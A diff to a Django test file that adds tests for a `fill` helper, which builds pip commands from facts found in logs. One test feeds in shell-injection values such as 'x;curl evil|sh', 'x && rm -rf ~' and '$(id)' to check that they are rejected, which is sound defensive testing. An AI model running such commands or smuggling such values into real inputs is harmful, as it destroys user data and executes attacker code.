@@ -9,9 +9,10 @@ import tempfile
 from django.core.cache import caches
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import CommandError, call_command
-from django.test import Client, TestCase, override_settings
+from django.test import Client, SimpleTestCase, TestCase, override_settings
 
 from kb import signature_version
+from kb.diagnosing import fill
 from kb.models import Signature
 from tests.helpers import make_entry, make_reference, make_signature
 
@@ -263,3 +264,17 @@ class DiagnoseCommandTests(DiagnosisFixture):
     def test_a_missing_file_is_a_clear_error(self):
         with self.assertRaisesMessage(CommandError, "Cannot read /no/such/file.log"):
             self.run_command("/no/such/file.log")
+
+
+class QuickFixTests(SimpleTestCase):
+    def test_facts_from_the_log_fill_the_command(self):
+        filled = fill("pip index versions {package}", {"package": "sympy", "version": "1.12"})
+        self.assertEqual(filled, "pip index versions sympy")
+
+    def test_no_command_is_offered_when_a_fact_is_missing(self):
+        self.assertEqual(fill("pip download {package}=={version}", {"package": "sympy"}), "")
+
+    def test_no_command_is_offered_when_a_fact_holds_shell_syntax(self):
+        for hostile in ("x;curl evil|sh", "x && rm -rf ~", "$(id)", "`id`", "a b", "x'y", 'x"y'):
+            with self.subTest(package=hostile):
+                self.assertEqual(fill("pip install {package}", {"package": hostile}), "")
